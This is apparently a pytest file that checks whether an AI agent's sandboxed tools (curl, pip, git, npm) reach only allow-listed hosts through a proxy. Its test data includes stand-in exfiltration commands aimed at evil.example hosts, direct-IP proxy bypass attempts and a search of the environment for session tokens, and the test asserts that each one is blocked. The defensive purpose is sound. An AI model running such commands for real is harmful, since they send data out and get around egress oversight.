"""Tools inside a box reach what its agent may reach, and nothing else."""

from pathlib import Path

import pytest

from apps.sessions.models import AgentSession
from tests.support.boxes import ISOLATED
from tests.support.egress import Site
from tests.support.live import eventually
from tests.support.model_server import calls
from tests.workers.agent.conftest import Start

_TOOLS = """
set -e
cd /tmp
curl -sS {url}/hello.txt
python3 -m venv --system-site-packages v >/dev/null
v/bin/pip install -q --disable-pip-version-check --trusted-host packages.test \
    --index-url {url}/simple tiny
v/bin/python -c 'import tiny; print(tiny.WORD)'
git clone -q {url}/tiny.git && cat tiny/README
npm install --global --silent --no-audit --no-fund {url}/tiny-1.0.0.tgz >/dev/null
node -e 'console.log(require(process.env.HOME + "/.local/lib/node_modules/tiny"))'
"""
_OUTSIDE = """
curl -sS http://evil.example/?secret=1
python3 -c 'import urllib.request as u; u.urlopen("https://evil-index.example/")' 2>&1 | tail -n 1
git clone https://evil-git.example/x.git 2>&1 | grep -o 'response 403'
curl -sS -m 5 --noproxy '*' http://93.184.216.34/ 2>&1 || true
python3 -c 'import socket; socket.create_connection(("93.184.216.34", 443), 5)' 2>&1 | tail -n 1
env | grep -c dst_ || true
"""


@pytest.mark.parametrize("backend", ISOLATED)
def test_tools_work_through_the_proxy_and_nothing_goes_around_it(
    world: Start, egress: Path, site: Site, backend: str
) -> None:
    here = world(
        backend,
        [
            calls("bash", command=_TOOLS.format(url=site.url)),
            calls("bash", command=_OUTSIDE),
            calls("complete", outputs={}, summary="Done"),
        ],
    )
    run = here.run(workspace=False)
    outcome = here.execute(run)
    assert outcome.succeeded, outcome.error
    tools, outside = (e["result"] for e in here.events(run, "TOOL_CALL_END")[:2])
    assert tools.split("\n")[:4] == ["hello", "from the index", "from git", "from npm"]

    assert "evil.example:80 is not on this agent's allow-list" in outside
    assert "evil-index.example:443 is not on this agent's allow-list" in outside
    assert "response 403" in outside
    assert outside.count("Network is unreachable") + outside.count("Couldn't connect") == 2
    assert outside.rstrip().endswith("0\n[exit code 0]")  # no tool sees the session's token

    session = AgentSession.objects.get(run_id=run.pk)
    eventually(lambda: len(here.events(run, "NETWORK_BLOCKED")) == 3)
    blocked = {(e["host"], e["port"], e["agentId"]) for e in here.events(run, "NETWORK_BLOCKED")}
    assert blocked == {
        (host, port, "yukihiro")
        for host, port in [
            ("evil.example", 80),
            ("evil-index.example", 443),
            ("evil-git.example", 443),
        ]
    }
    allowed = session.egress.filter(verdict="allowed").values_list("host", "port")
    assert list(allowed) == [("packages.test", site.port)]
